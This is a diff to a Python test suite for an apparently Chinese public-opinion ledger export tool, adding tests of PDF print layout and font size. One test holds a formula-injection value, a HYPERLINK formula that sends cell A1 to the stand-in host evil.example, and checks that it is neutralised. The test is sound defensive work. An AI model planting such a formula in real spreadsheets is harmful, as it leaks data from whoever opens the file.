@@ -22,6 +22,7 @@ import openpyxl
 import pytest
 
 from yuqing.cli import main
+from yuqing.export import DEADLINE_COLUMNS, DETAIL_COLUMNS
 
 from .conftest import PROJECT, RegisterDir
 from .test_export import HOSTILE_UNIT, LEDGER_HEADERS, hostile_register
@@ -104,6 +105,43 @@ def test_ledger_prints_one_page_wide_with_every_header_on_every_page(office: Pat
     assert ids == sorted(ids) and len(ids) == len(set(ids)) == 24
 
 
+def printed_sizes(pdf: Path, word: str) -> list[float]:
+    """The printed size in points of ``word`` (two CJK characters) on each page that has it: a CJK
+    character is as wide as its font size."""
+    layout = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], check=True, capture_output=True,
+                            text=True).stdout
+    sizes = []
+    for page in layout.split("<page ")[1:]:
+        found = re.search(rf'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">{word}</word>', page)
+        if found:
+            sizes.append((float(found.group(2)) - float(found.group(1))) / len(word))
+    return sizes
+
+
+def test_detail_and_deadline_sheets_print_readably_with_the_ledgers_heading(office: Path) -> None:
+    everything = pages(office / "ledger.pdf")
+    # The pages after the 台账's: 明细, then 时限, each as many A4 pages wide as it takes, 编号 on every one.
+    wide = [p for p in everything if "编号" in p and "处置经过" not in p]
+    split = next(n for n, p in enumerate(wide) if "处置时限表" in p)
+    detail, deadlines = wide[:split], wide[split:]
+    assert len(detail) == 6 and len(deadlines) == 4   # 明细 three pages wide, 时限 two; two rows of pages each
+    first = squeeze(detail[0])
+    assert "示例市市场监督管理局舆情台账(明细)" in first and "制表日期:2026年11月23日" in first
+    assert "示例市市场监督管理局舆情处置时限表" in squeeze(deadlines[0])
+    for header in (c.header for c in DETAIL_COLUMNS):
+        assert header in squeeze("".join(detail[:3])), header   # every column, on the first row of pages
+    for header in (c.header for c in DEADLINE_COLUMNS):
+        assert header in squeeze("".join(deadlines[:2])), header
+    # Every page of both starts its rows with the ids (the 编号 column repeated) ...
+    for page in wide:
+        assert re.search(r"^\s*YQ-\d{4}-\d{4}", page, re.M), page[:200]
+    # ... and prints at a size one can read: 10 pt at 75 %, never below 7 pt (the 台账 sheet's own scale
+    # fits 16 columns on one page).
+    sizes = printed_sizes(office / "ledger.pdf", "编号")
+    assert len(sizes) == 7 + len(wide)
+    assert all(size >= 7 for size in sizes[7:]), sizes
+
+
 def test_report_tables_repeat_their_header_and_the_report_ends_with_its_closing(office: Path) -> None:
     weekly = pages(office / "weekly.pdf")
     assert page_count(office / "weekly.pdf") == len(weekly) == 3
@@ -124,7 +162,8 @@ def test_office_suite_never_runs_an_exported_cell_as_a_formula(office: Path) -> 
     printed = squeeze("".join(pages(office / "hostile.pdf")))
     # Shown as the text written (with the apostrophe), not as the link text a formula would show.
     assert squeeze("'" + HOSTILE_UNIT) in printed
-    assert squeeze("'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")") in printed
+    # (The title wraps after "http://" in the 明细 sheet's column: the two lines, each whole.)
+    assert squeeze("'=HYPERLINK(\"http://") in printed and squeeze("evil.example/?\"&A1,\"点击查看\")") in printed
     book = openpyxl.load_workbook(office / "csv" / "hostile.xlsx")
     cells = [c for row in book.active.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
